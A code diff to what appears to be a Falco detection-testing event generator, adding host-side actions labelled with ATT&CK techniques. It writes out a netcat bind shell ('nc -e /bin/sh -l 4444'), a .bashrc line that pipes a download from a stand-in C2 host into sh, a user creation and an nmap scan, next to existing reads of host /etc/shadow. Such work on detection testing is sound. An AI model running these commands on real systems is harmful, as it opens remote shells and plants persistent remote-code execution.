@@ -56,13 +56,48 @@ pub(crate) fn extra_actions() -> Vec<Action> {
         act!("write /lnr-evtgen", "Write below root", "T1543", root_write),
         act!("write /var/lib/rpm", "Write below rpm database", "T1072", rpm_write),
         act!("npm install runs nc", "Network Tool Executed During NPM Package Install", "T1195.002", npm_nc),
+        act!("python appends to ~/.bashrc", "Modify Shell Configuration File", "T1546.004", py_bashrc),
         // ---- in the privileged pod (host root and containerd's socket mounted)
         act!("privileged container starts (its pid 1)", "Launch Privileged Container", "T1610", priv_start),
         act!("debugfs in the privileged pod", "Debugfs Launched in Privileged Container", "T1611", priv_debugfs),
         act!("mount in the privileged pod", "Mount Launched in Privileged Container", "T1611", priv_mount),
         act!("read a block device", "Privileged Container Device Access", "T1006", priv_block, no_block_device),
         act!("read /host/etc/shadow", "Container Access to Host Sensitive Paths", "T1611", priv_host_read),
+        // ---- on the host, outside any container (their command lines carry HOST_MARK)
+        act!("useradd on the host", "User mgmt binaries", "T1136.001", host_useradd),
+        act!("nmap on the host", "Launch Suspicious Network Tool on Host", "T1046", host_nmap),
+        act!("nc -e on the host", "Netcat/Socat Remote Code Execution on Host", "T1059", host_nc),
     ]
+}
+
+/// An argument of every host action: the alerts of host processes are theirs when
+/// `proc.cmdline` has it.
+pub(crate) const HOST_MARK: &str = "lnr-evtgen-host";
+
+/// `tool` from [`TOOLS`] run on the host (no pod cgroup, no pod network), with [`HOST_MARK`].
+fn on_host(tool: &str, args: &[&str]) -> Result<()> {
+    Command::new(Path::new(TOOLS).join(tool))
+        .args(args)
+        .arg(HOST_MARK)
+        .current_dir(WORK)
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .status()
+        .with_context(|| format!("{tool} on the host"))
+        .map(drop)
+}
+
+fn host_useradd(_: &Ctx) -> Result<()> {
+    on_host("useradd", &["-m"])
+}
+
+fn host_nmap(_: &Ctx) -> Result<()> {
+    on_host("nmap", &["-sT", "-p", "22"])
+}
+
+fn host_nc(_: &Ctx) -> Result<()> {
+    on_host("nc", &["-e", "/bin/sh", "-l", "4444"])
 }
 
 /// A second pod, privileged, with the host's root at /host and containerd's socket
@@ -91,7 +126,7 @@ fn privileged<'a>(c: &Ctx<'a>) -> Result<&'a Pod> {
 /// host has no /host).
 const HOST_BIND: &str = "/host";
 /// Set when [`prepare`] made [`HOST_BIND`].
-const HOST_MARK: &str = "/tmp/lnr-evtgen-host.mark";
+const HOST_BIND_MARK: &str = "/tmp/lnr-evtgen-host.mark";
 
 const BLOCK_DEVICES: [&str; 4] = ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda"];
 
@@ -143,14 +178,14 @@ fn ovl() -> PathBuf {
 /// (a copy of /bin/true), `containerd-shim` (python3 under the shim's process name) and
 /// an overlayfs mount (a container root's kind of file system).
 pub(super) fn prepare() -> Result<()> {
-    for t in ["login", "pkexec", "sudoedit"] {
+    for t in ["login", "pkexec", "sudoedit", "useradd"] {
         std::fs::copy("/bin/true", Path::new(TOOLS).join(t)).with_context(|| format!("install {t}"))?;
     }
     std::fs::copy("/bin/bash", Path::new(TOOLS).join("sshd")).context("install sshd")?;
     std::fs::copy("/bin/bash", Path::new(TOOLS).join("npm")).context("install npm")?;
     if !Path::new(HOST_BIND).exists() {
         std::fs::create_dir(HOST_BIND)?;
-        std::fs::write(HOST_MARK, "")?;
+        std::fs::write(HOST_BIND_MARK, "")?;
         crate::sh(Command::new("mount").args(["--bind", "/", HOST_BIND]))?;
     }
     if !Path::new("/var/lib/rpm").exists() {
@@ -207,11 +242,11 @@ pub(super) fn cleanup() {
         let _ = std::fs::remove_file(f);
     }
     let _ = std::fs::remove_dir(BIN_DIR);
-    if Path::new(HOST_MARK).exists() {
+    if Path::new(HOST_BIND_MARK).exists() {
         let m = std::ffi::CString::new(HOST_BIND).expect("path");
         unsafe { libc::umount2(m.as_ptr(), libc::MNT_DETACH) };
         let _ = std::fs::remove_dir(HOST_BIND);
-        let _ = std::fs::remove_file(HOST_MARK);
+        let _ = std::fs::remove_file(HOST_BIND_MARK);
     }
     let pm = std::ffi::CString::new(format!("{WORK}/pmnt")).expect("path");
     unsafe { libc::umount2(pm.as_ptr(), libc::MNT_DETACH) };
@@ -346,6 +381,11 @@ fn rpm_write(c: &Ctx) -> Result<()> {
 fn npm_nc(c: &Ctx) -> Result<()> {
     // A package's install script (bash under npm's name) probes the network with nc.
     tool(c, "npm", &["-c", &format!("{TOOLS}/nc -z {C2} 80; exit $?")])
+}
+
+fn py_bashrc(c: &Ctx) -> Result<()> {
+    // Not a shell (Falco's rule leaves shells out): a script appends a line to a .bashrc.
+    py(c, &format!("open('{WORK}/home/.bashrc', 'a').write('curl -s http://{C2}/x | sh\\n')"), None)
 }
 
 fn priv_start(c: &Ctx) -> Result<()> {
